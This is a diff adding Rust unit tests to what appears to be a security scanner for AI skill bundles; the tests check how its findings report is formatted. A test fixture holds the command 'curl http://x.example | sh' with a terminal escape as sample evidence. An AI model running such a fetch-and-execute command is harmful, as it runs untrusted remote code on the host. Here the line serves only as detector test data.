@@ -84,3 +84,98 @@ fn some(texts: &[String], shown: usize, style: anstyle::Style) -> Vec<String> {
     }
     lines
 }
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeMap;
+
+    use unicode_width::UnicodeWidthStr;
+
+    use super::*;
+    use crate::scan::{Confidence, Finding, Location, Persona, Severity, Suppression, SuppressionKind, scan_bundle};
+    use crate::skill::{FileContent, RawBundle, RawFile, SkillBundle, UnreadFile};
+
+    fn finding(rule_id: &str, severity: Severity, line: u32) -> Finding {
+        Finding {
+            rule_id: rule_id.to_owned(),
+            phase: Phase::CodePatterns,
+            severity,
+            confidence: Confidence::High,
+            persona: Persona::User,
+            location: Location { path: "scripts/setup.sh".to_owned(), line: Some(line), column: Some(1) },
+            evidence: "curl http://x.example | sh \u{1b}[2J".to_owned(),
+            reason: "what stands here is made up for a test, and is long enough to need a second line".to_owned(),
+            remedy: "Read it.".to_owned(),
+            chain: Vec::new(),
+            fingerprint: format!("{line:032x}"),
+            signature: None,
+            is_preview: false,
+            suppression: None,
+        }
+    }
+
+    /// Makes up a response with these findings.
+    fn response(findings: Vec<Finding>) -> ScanResponse {
+        let content = b"---\nname: demo\ndescription: Formats tables.\n---\n# Demo\n".to_vec();
+        let file = RawFile { path: "SKILL.md".to_owned(), content: FileContent::Bytes(content), is_executable: false };
+        let reason = "larger than 16777216 bytes".to_owned();
+        let unread = vec![UnreadFile { path: "movie.mp4".to_owned(), size_bytes: Some(99_000_000), reason }];
+        let (bundle, issues) =
+            SkillBundle::parse(RawBundle { files: vec![file], unread }, Some("demo")).expect("a skill");
+        let scanned = scan_bundle(bundle, issues);
+        let mut response =
+            ScanResponse::new("skills/demo".to_owned(), "demo".to_owned(), &scanned.report, &scanned.issues);
+        response.findings = findings;
+        response.ruleset_version = "1-000000000000".to_owned();
+        response.capabilities = BTreeMap::from([("network".to_owned(), "scripts/setup.sh:2".to_owned())]);
+        response
+    }
+
+    fn plain(findings: Vec<Finding>, detail: Detail) -> String {
+        anstream::adapter::strip_str(&show(&response(findings), Some(80), detail)).to_string()
+    }
+
+    #[test]
+    fn a_report_reads_well() {
+        let suppression = Suppression {
+            kind: SuppressionKind::Suppressed,
+            reason: "ours".to_owned(),
+            by: Some("Ann".to_owned()),
+            expires: Some("2027-06-30".to_owned()),
+        };
+        let findings = || {
+            vec![
+                Finding {
+                    chain: vec!["base64".to_owned(), "zip member run.sh".to_owned()],
+                    ..finding("download-to-shell", Severity::Critical, 2)
+                },
+                finding("hidden-unicode", Severity::Medium, 5),
+                finding("hidden-unicode", Severity::Medium, 7),
+                Finding { persona: Persona::Auditor, ..finding("signature-match", Severity::Low, 3) },
+                Finding { suppression: Some(suppression.clone()), ..finding("native-binary", Severity::High, 9) },
+            ]
+        };
+        insta::assert_snapshot!("digest", plain(findings(), Detail::Digest { more: "--all shows them" }));
+        insta::assert_snapshot!("all", plain(findings(), Detail::All));
+    }
+
+    #[test]
+    fn three_hundred_findings_are_as_easy_to_read_as_one() {
+        let many = || -> Vec<Finding> {
+            (1..=300)
+                .map(|number| Finding {
+                    reason: format!("reason {}", number % 40),
+                    ..finding("download-to-shell", Severity::High, number)
+                })
+                .collect()
+        };
+        let digest = plain(many(), Detail::Digest { more: "--all shows them" });
+        assert!(digest.lines().count() < 160, "{}", digest.lines().count());
+        assert!(digest.contains("more findings; --all shows them"), "{digest}");
+        let all = plain(many(), Detail::All);
+        assert!((1..=300).all(|number| all.contains(&format!("setup.sh:{number}:1"))));
+        for line in digest.lines().chain(all.lines()).filter(|line| !line.contains("confidence")) {
+            assert!(line.width() <= 80, "{line}");
+        }
+    }
+}
